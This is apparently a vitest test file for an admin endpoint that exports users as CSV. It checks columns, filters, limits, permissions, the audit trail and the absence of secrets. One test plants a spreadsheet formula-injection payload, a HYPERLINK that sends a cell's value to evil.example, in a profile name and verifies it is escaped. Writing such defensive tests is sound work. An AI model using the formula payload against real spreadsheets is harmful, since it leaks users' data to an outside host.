import { describe, expect, test } from 'vitest'
import { AdminUser, EXPORT_LIMIT } from '../../shared/api/admin-api.ts'
import { createTestApp, type TestApp } from '../testing/test-app.ts'
import { bearer, signIn, USER2 } from '../testing/test-client.ts'
import { makeStale } from '../testing/test-confirm.ts'
import { signInStaff } from '../testing/test-staff.ts'
import { trailOf } from '../testing/test-trail.ts'

/** Adds users p00000, p00001 and so on. */
async function addMany({ db }: TestApp, count: number) {
  const names = Array.from({ length: count }, (_, index) => `p${String(index).padStart(5, '0')}`)
  // A statement may not have as many values as ten thousand users have.
  for (let start = 0; start < count; start += 1_000) {
    const rows = names.slice(start, start + 1_000).map((name) => ({
      ...{ username: name, username_key: name, email: '', email_key: '', date_joined: 0 },
    }))
    await db.insertInto('users').values(rows).execute()
  }
  return names
}

function linesOf(csv: string): string[] {
  return csv.split('\r\n').slice(0, -1)
}

function namesIn(csv: string): (string | undefined)[] {
  return linesOf(csv)
    .slice(1)
    .map((line) => line.split('","')[1])
}

describe('POST /api/admin/users/export', () => {
  test('the users of the list, in its order, with the columns of the contract', async () => {
    const server = await createTestApp()
    const staff = await signInStaff(server)
    await server.db.updateTable('users').set({ last_login: null }).where('id', '=', 2).execute()
    const { csv, ...rest } = (await staff.post('/users/export', { order: 'desc' })).json()
    const { users } = (await staff.get('/users?order=desc')).json()
    const [header, ...rows] = linesOf(csv).map((line) => line.slice(1, -1).split('","'))

    expect(rest).toEqual({ users: 2, is_complete: true })
    expect(header).toEqual(Object.keys(AdminUser.shape))
    expect(rows).toEqual(
      users.map((user: AdminUser) => Object.values(user).map((value) => String(value ?? ''))),
    )
    expect(csv).toContain('"2","user2","tim@allen.com","true","Tim","Allen","true","false","false"')
  })

  test('the filters and the search are those of the list', async () => {
    const server = await createTestApp()
    const staff = await signInStaff(server)
    await addMany(server, 3)
    await server.db.updateTable('users').set({ is_active: 0 }).where('username', '=', 'p00001').execute()
    const namesOf = async (query: object) => namesIn((await staff.post('/users/export', query)).json().csv)

    expect(await namesOf({ search: 'P000' })).toEqual(['p00000', 'p00001', 'p00002'])
    expect(await namesOf({ search: 'P000', is_active: 'false' })).toEqual(['p00001'])
    expect(await namesOf({ provider: 'github' })).toEqual([])
    expect((await staff.post('/users/export', { sort: 'password_hash' })).json().fields).toHaveProperty(
      'sort',
    )
  })

  test('no user is left out and none twice, up to a limit, which it tells', async () => {
    const server = await createTestApp()
    const staff = await signInStaff(server)
    const names = await addMany(server, EXPORT_LIMIT + 1)
    const search = (part: string) => staff.post('/users/export', { search: part })
    const all = (await search('p')).json()
    const some = (await search('p0')).json()

    expect([all.users, all.is_complete]).toEqual([EXPORT_LIMIT, false])
    expect(namesIn(all.csv)).toEqual(names.slice(0, EXPORT_LIMIT))
    expect([some.users, some.is_complete]).toEqual([EXPORT_LIMIT, true])
  })

  test('other requests have their turn between the statements', async () => {
    const server = await createTestApp()
    const staff = await signInStaff(server)
    await addMany(server, EXPORT_LIMIT)
    let turns = 0
    let isDone = false
    const countTurn = () => {
      turns += 1
      if (!isDone) setImmediate(countTurn)
    }
    countTurn()
    await staff.post('/users/export')
    isDone = true

    expect(turns).toBeGreaterThan(10)
  })

  test('attack: a name that a spreadsheet would run as a formula is a text', async () => {
    const server = await createTestApp()
    const { tokens } = await signIn(server.app, 'body', USER2)
    await server.app.inject({
      ...{ method: 'PATCH', url: '/api/profile', headers: bearer(tokens.access) },
      payload: { first_name: '=HYPERLINK("https://evil.example/?"&B2,"Open")', last_name: 'x;@SUM(B:B)' },
    })
    const staff = await signInStaff(server)
    const { csv } = (await staff.post('/users/export', { search: 'user2' })).json()

    expect(csv).toContain('"\'=HYPERLINK(""https://evil.example/?""&B2,""Open"")","x;\'@SUM(B:B)"')
  })

  test('refuses other users and stale sign-ins, and records only who has read the list', async () => {
    const server = await createTestApp()
    const staff = await signInStaff(server)
    const { tokens } = await signIn(server.app, 'body', USER2)
    const headers = bearer(tokens.access)
    const url = '/api/admin/users/export'
    const plain = await server.app.inject({ method: 'POST', url, headers, payload: {} })
    await staff.post('/users/export')
    await makeStale(server.db)
    const stale = await staff.post('/users/export')

    expect([plain.statusCode, plain.json().code]).toEqual([403, 'permission_denied'])
    expect([stale.statusCode, stale.json().code]).toEqual([403, 'reauthentication_required'])
    expect((await trailOf(server)).filter(([event]) => event === 'users_exported')).toEqual([
      ['users_exported', null, 1],
    ])
  })

  test('has no password hash and no session', async () => {
    const server = await createTestApp()
    const staff = await signInStaff(server)
    const { password_hash } = await server.db
      .selectFrom('users')
      .select('password_hash')
      .where('id', '=', 1)
      .executeTakeFirstOrThrow()
    const { csv } = (await staff.post('/users/export')).json()

    expect(csv).not.toContain(password_hash)
    expect(csv).not.toContain(staff.sid)
  })
})
